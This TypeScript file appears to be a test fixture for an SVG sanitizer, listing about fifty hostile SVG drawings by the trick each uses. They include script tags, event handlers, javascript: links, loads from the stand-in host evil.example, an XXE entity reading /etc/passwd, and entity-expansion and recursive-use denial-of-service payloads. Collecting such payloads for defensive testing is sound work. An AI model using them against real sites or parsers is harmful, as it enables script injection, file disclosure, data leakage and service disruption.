/** Drawings that try to do more than draw, one trick each. Each would make the window that shows it say so, ask for something, or leave. */

const svg = (inside: string, attributes = '') =>
  `<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" width="60" height="40" ${attributes}><rect id="own" width="60" height="40" fill="#2a7"/>${inside}</svg>`;

const run = 'window.__pwned=1;fetch("/ran")';
const away = 'https://evil.example/x';
const encoded = (text: string) => `data:image/svg+xml;base64,${Buffer.from(text).toString('base64')}`;

/** By what each tries. */
export const hostileDrawings: Readonly<Record<string, string>> = {
  'a script': svg(`<script>${run}</script>`),
  'a script with a prefix': `<x:svg xmlns:x="http://www.w3.org/2000/svg" width="60" height="40"><x:script>${run}</x:script></x:svg>`,
  'a script in CDATA': svg(`<script type="text/ecmascript"><![CDATA[${run}]]></script>`),
  'a script of another file': svg(`<script href="${away}.js"/><script xlink:href="${away}.js"/>`),
  'a script of HTML': svg(`<x:script xmlns:x="http://www.w3.org/1999/xhtml">${run}</x:script>`),
  'a script of HTML in what editors keep': svg(`<metadata><h:script xmlns:h="http://www.w3.org/1999/xhtml">${run}</h:script></metadata>`),
  'an event of the root': svg('', `onload='${run}'`),
  'an event of a shape': svg(`<circle r="9" onmouseover='${run}' onfocus='${run}' tabindex="0" autofocus="autofocus"/>`),
  'an event of an image that is missing': svg(`<image href="x" onerror='${run}' width="9" height="9"/>`),
  'an event written in capitals': svg('', `ONLOAD='${run}'`),
  'HTML that runs': svg(
    `<foreignObject width="60" height="40"><body xmlns="http://www.w3.org/1999/xhtml"><img src="x" onerror='${run}'/></body></foreignObject>`,
  ),
  'a frame': svg(`<foreignObject width="9" height="9"><iframe xmlns="http://www.w3.org/1999/xhtml" src="${away}"/></foreignObject>`),
  'a frame outside any HTML': svg(
    `<iframe xmlns="http://www.w3.org/1999/xhtml" srcdoc="&lt;script>${run.replaceAll('"', '&quot;')}&lt;/script>"/>`,
  ),
  'a page that leaves': svg(`<meta xmlns="http://www.w3.org/1999/xhtml" http-equiv="refresh" content="0;url=${away}"/>`),
  'a style sheet of HTML': svg(`<link xmlns="http://www.w3.org/1999/xhtml" rel="stylesheet" href="${away}.css"/>`),
  'an animation that sets an address': svg(
    `<a id="l"><text y="20">Go</text></a><set href="#l" attributeName="href" to='javascript:${run}'/><animate xlink:href="#l" attributeName="xlink:href" values='javascript:${run}' begin="0s"/>`,
  ),
  'an animation that calls': svg(`<rect width="9" height="9"><animate attributeName="x" dur="1s" onbegin='${run}'/></rect>`),
  'a link that runs': svg(`<a href='javascript:${run}'><text y="20" font-size="40">Click</text></a>`),
  'a link that runs, encoded': svg(`<a xlink:href='java&#x09;script:${run}'><text y="20">Click</text></a>`),
  'a link to a page of data': svg(`<a href="data:text/html,&lt;script>1&lt;/script>"><text y="20">Click</text></a>`),
  'an instruction for a style sheet': `<?xml-stylesheet href="${away}.css" type="text/css"?>${svg('')}`,
  'an instruction for a transformation': `<?xml-stylesheet type="text/xsl" href="#own"?>${svg('')}`,
  'a picture from elsewhere': svg(
    `<image href="${away}.png" width="9" height="9"/><image xlink:href="//evil.example/x.png" width="9" height="9"/>`,
  ),
  'a picture of the same site': svg('<image href="/icon.svg" width="9" height="9"/>'),
  'a drawing in the drawing': svg(`<image href="${encoded(svg(`<script>${run}</script>`))}" width="60" height="40"/>`),
  'a page as a picture': svg(
    `<image href="data:text/html;base64,${Buffer.from(`<script>${run}</script>`).toString('base64')}" width="9" height="9"/>`,
  ),
  'a part of another drawing': svg(`<use href="${away}.svg#a"/><use xlink:href="other.svg#a"/>`),
  'a part of a drawing of data': svg(`<use href="${encoded(svg(`<g id="a"><script>${run}</script></g>`))}#a"/>`),
  'a picture in a filter': svg(`<filter id="f"><feImage href="${away}.png"/></filter><rect width="9" height="9" filter="url(#f)"/>`),
  'a filter from elsewhere': svg(`<rect width="9" height="9" filter="url(${away}.svg#f)" fill="url('${away}.svg#g')"/>`),
  'a mask from elsewhere': svg(`<rect width="9" height="9" mask="url(${away}.svg#m)" style="mask-image:url(${away}.png)"/>`),
  'a pointer from elsewhere': svg(`<rect width="60" height="40" cursor="url(${away}.png),auto" style="cursor:url(${away}.cur),pointer"/>`),
  'a style that loads': svg(`<style>rect{background:url(${away}.png);fill:url("${away}.svg#p")}</style>`),
  'a style that imports': svg(`<style>@import "${away}.css";@import url(${away}.css);</style>`),
  'a style with a font': svg(`<style>@font-face{font-family:f;src:url(${away}.woff2)}text{font-family:f}</style><text y="20">Text</text>`),
  'a style that hides what it loads': svg(
    `<style>rect{fill:u\\72l(${away});background:\\75 rl(${away})}</style><rect width="9" height="9" fill="u\\72l(${away})"/>`,
  ),
  'a style with a set of pictures': svg(
    `<style>svg{background:image-set("${away}.png" 1x);background:-webkit-image-set(url(${away}) 1x);list-style:url(${away})}</style>`,
  ),
  'a style in a comment of a style': svg(`<style>/*</style><style>*/@import "${away}.css";</style>`),
  'a style that closes itself': svg(`<style>rect{fill:red}&lt;/style>&lt;script>${run}&lt;/script></style>`),
  'a style in a nested rule': svg(
    `<style>@media all{@import "${away}.css";@supports (fill:red){rect{background:url(${away})}}@layer a{rect{background:url(${away})}}}</style>`,
  ),
  'entities that grow': `<!DOCTYPE svg [<!ENTITY a "aaaaaaaaaa"><!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;"><!ENTITY c "&b;&b;&b;&b;&b;&b;&b;&b;">]>${svg('<text y="9">&c;</text>')}`,
  'entities of the disk': `<!DOCTYPE svg [<!ENTITY a SYSTEM "file:///etc/passwd">]>${svg('<text y="9">&a;</text>')}`,
  'attributes by declaration': `<!DOCTYPE svg [<!ATTLIST svg onload CDATA "${run.replaceAll('"', "'")}">]>${svg('')}`,
  'a base for addresses': svg('<image href="x.png" width="9" height="9"/>', `xml:base="${away}"`),
  'a handler of another standard': svg(
    `<handler xmlns:ev="http://www.w3.org/2001/xml-events" ev:event="load" type="text/ecmascript">${run}</handler>`,
  ),
  'a sound and a film': svg(
    `<audio xmlns="http://www.w3.org/1999/xhtml" src="${away}.mp3" autoplay=""/><video xmlns="http://www.w3.org/1999/xhtml" src="${away}.mp4" autoplay=""/>`,
  ),
  'copies of copies': svg(
    `<defs><g id="c0"><rect width="1" height="1"/></g>${Array.from({ length: 20 }, (_, index) => `<g id="c${index + 1}">${`<use href="#c${index}"/>`.repeat(10)}</g>`).join('')}</defs><use href="#c20"/>`,
  ),
  'patterns of patterns': svg(
    `<defs>${Array.from({ length: 20 }, (_, index) => `<pattern id="p${index + 1}" width="9" height="9">${`<rect width="9" height="9" class="q${index}"/>`.repeat(10)}</pattern>`).join('')}</defs><style>${Array.from({ length: 20 }, (_, index) => `g .q${index + 1}, .q${index + 1}{fill:url(#p${index + 1})}`).join('')}</style><rect class="q20" width="60" height="40"/>`,
  ),
  'a copy of itself': svg('<g id="a"><use href="#a"/></g>'),
  'a mask that masks itself': svg('<mask id="m"><rect width="9" height="9" mask="url(#m)"/></mask>'),
};
